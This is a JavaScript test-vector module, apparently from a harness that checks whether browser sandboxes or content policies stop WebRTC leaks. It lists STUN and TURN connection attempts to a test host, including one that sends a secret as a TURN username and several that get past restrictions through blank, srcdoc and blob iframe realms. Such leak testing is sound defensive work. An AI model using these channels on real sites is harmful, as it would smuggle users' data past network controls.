import { el, blob, blankRealm, STUN, offer, remoteCandidate } from './ways.js'

/** @type {import('../vectors.js').Vector[]} */
export const WEBRTC = [
  {
    name: 'STUN by name',
    family: 'webrtc',
    alone: true,
    run: (t) => offer(RTCPeerConnection, STUN(t, t.host)),
  },
  {
    name: 'STUN by address',
    family: 'webrtc',
    alone: true,
    run: (t) => offer(RTCPeerConnection, STUN(t)),
  },
  {
    name: 'webkit STUN',
    family: 'webrtc',
    alone: true,
    run: (t) => offer(globalThis.webkitRTCPeerConnection, STUN(t)),
  },
  {
    name: 'TURN over TCP',
    family: 'webrtc',
    alone: true,
    run: (t) =>
      offer(RTCPeerConnection, {
        iceServers: [
          { urls: `turn:${t.ip}:${t.port}?transport=tcp`, username: t.secret, credential: 'x' },
        ],
      }),
  },
  {
    name: 'remote candidate',
    family: 'webrtc',
    alone: true,
    run: (t) => remoteCandidate(RTCPeerConnection, t),
  },
  {
    name: 'remote candidate, blank realm',
    family: 'webrtc',
    alone: true,
    run: (t) => remoteCandidate(blankRealm().RTCPeerConnection, t),
  },
  {
    name: 'STUN, blank realm',
    family: 'webrtc',
    alone: true,
    run: (t) => offer(blankRealm().RTCPeerConnection, STUN(t)),
  },
  {
    name: 'STUN, srcdoc realm',
    family: 'webrtc',
    alone: true,
    run: (t) => {
      const f = el('iframe', { srcdoc: '<p>' })
      f.addEventListener('load', () => offer(f.contentWindow.RTCPeerConnection, STUN(t)))
    },
  },
  {
    name: 'STUN, blob realm',
    family: 'webrtc',
    alone: true,
    run: (t) =>
      el('iframe', {
        src: blob(
          `<script>const p=new RTCPeerConnection(${JSON.stringify(STUN(t))});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>`,
          'text/html',
        ),
      }),
  },
  {
    name: 'STUN, realm by XSLT',
    family: 'webrtc',
    alone: true,
    run: (t) => {
      const d = el('iframe')
      d.contentDocument.open()
      d.contentDocument.write('<p>')
      d.contentDocument.close()
      return offer(d.contentWindow.RTCPeerConnection, STUN(t))
    },
  },
]
